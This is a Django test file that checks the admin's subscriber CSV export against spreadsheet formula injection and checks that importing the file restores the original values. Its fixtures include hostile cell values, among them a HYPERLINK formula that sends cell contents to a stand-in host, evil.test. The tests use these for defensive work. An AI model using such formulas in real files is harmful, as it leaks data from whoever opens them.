"""A subscriber CSV opened in a spreadsheet runs no formula, and imports back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from notifications.csvio import restore_cell, subscribers_export
from notifications.models import Subscriber
from tests.factories import make_component
from tests.notifications.factories import make_subscriber

pytestmark = pytest.mark.django_db

SUBSCRIBERS = "/admin/notifications/subscriber/"
# Valid addresses a stranger may subscribe with, and component names staff may type, that a
# spreadsheet would evaluate; each address with the components it follows.
HOSTILE_NAMES = ['=HYPERLINK("https://evil.test/?x="&A1,"Docs")', "@SUM(A1)", "\tcmd", "\r=1"]
FOLLOWING = {
    "=1+1@example.com": [HOSTILE_NAMES[0]],
    "+44-1@example.com": [HOSTILE_NAMES[1]],
    "-2+3@example.com": [HOSTILE_NAMES[2]],
    "plain@example.com": [HOSTILE_NAMES[3]],
    "o'brien@example.com": ["'quoted"],
}


def subscribe_everyone() -> None:
    for email, names in FOLLOWING.items():
        make_subscriber(email, components=[make_component(name) for name in names])


def export(client: Client) -> str:
    response = client.post(
        SUBSCRIBERS,
        {
            "action": "export_csv",
            "_selected_action": list(Subscriber.objects.values_list("pk", flat=True)),
        },
    )
    assert response.status_code == 200
    return response.content.decode()


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_exported_cell_starts_like_a_formula(admin_client):
    subscribe_everyone()
    rows = cells(export(admin_client))[1:]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    by_email = {row[1]: row[3] for row in rows}
    assert by_email == {
        "'=1+1@example.com": "'" + HOSTILE_NAMES[0],
        "'+44-1@example.com": "'@SUM(A1)",
        "'-2+3@example.com": "'\tcmd",
        "plain@example.com": "'\r=1",
        "o'brien@example.com": "''quoted",
    }


def test_plain_cells_are_exported_as_they_are():
    subscriber = make_subscriber("ada@example.com", components=[make_component("API")])
    (row,) = cells(subscribers_export([subscriber]))[1:]
    assert row[:5] == ["email", "ada@example.com", "", "API", "active"]


def test_an_exported_file_imports_back_the_same_addresses_and_components(admin_client):
    subscribe_everyone()
    exported = export(admin_client)
    Subscriber.objects.all().delete()
    upload = SimpleUploadedFile("subscribers.csv", exported.encode(), content_type="text/csv")
    page = admin_client.post(
        f"{SUBSCRIBERS}import/", {"file": upload, "confirmed": "on"}, follow=True
    ).content.decode()
    assert f"Imported {len(FOLLOWING)} subscribers" in page
    imported = {s.email: [c.name for c in s.components.all()] for s in Subscriber.objects.all()}
    assert imported == FOLLOWING


def test_import_takes_off_only_the_quote_export_puts_on():
    assert restore_cell("'=1+1@example.com") == "=1+1@example.com"
    assert restore_cell("''quoted") == "'quoted"
    assert restore_cell("'quoted") == "'quoted"
    assert restore_cell("o'brien@example.com") == "o'brien@example.com"
